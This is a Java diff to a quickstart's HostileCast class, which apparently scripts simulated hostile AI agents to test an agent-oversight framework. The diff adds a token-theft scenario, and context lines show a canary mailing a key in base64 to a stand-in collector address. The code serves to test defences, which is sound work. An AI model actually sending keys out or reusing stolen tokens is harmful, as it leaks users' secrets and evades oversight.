@@ -6,8 +6,10 @@ import static io.cordon.quickstart.agent.OrdinaryCast.transfer;
 import static java.nio.charset.StandardCharsets.UTF_8;
 
 import io.cordon.emitter.ScopeDeclaration;
+import io.cordon.quickstart.tool.SecondPlace;
 import io.cordon.quickstart.tool.ToolNames;
 import io.cordon.quickstart.world.World;
+import java.util.ArrayList;
 import java.util.Base64;
 import java.util.HexFormat;
 import java.util.List;
@@ -17,9 +19,13 @@ import java.util.Map;
 public final class HostileCast {
     private HostileCast() {}
 
-    /** All of them, in the order of the story. */
+    /** All of them, in the order of the story; a stolen token only where there is a second place to use it from. */
     public static List<CastMember> all() {
-        return List.of(exfiltration(), drift(), chaining(), accomplice());
+        List<CastMember> all = new ArrayList<>(List.of(exfiltration(), drift(), chaining(), accomplice()));
+        if (SecondPlace.exists()) {
+            all.add(theft());
+        }
+        return all;
     }
 
     /** A canary: it tries to send a key out in two ways, and is ended like any other. */
@@ -137,6 +143,16 @@ public final class HostileCast {
                     mail(World.COLLECTOR_MAIL, "Again", Base64.getEncoder().encodeToString(file.getBytes(UTF_8))),
                     "the key in base64, by itself");
             actor.pressOn();
+        });
+    }
+
+    /** It does nothing wrong. Its token was copied, and only the server sees it come from two places. */
+    static CastMember theft() {
+        Role role = Role.hostile(
+                "watcher", Plot.THEFT, RuntimeKind.REPORTING, "Tell support@acme.example when a new ticket comes in.");
+        return new CastMember(role, actor -> {
+            actor.attempt(ToolNames.TICKETS, Map.of(), "the tickets");
+            actor.robbed();
         });
     }
 
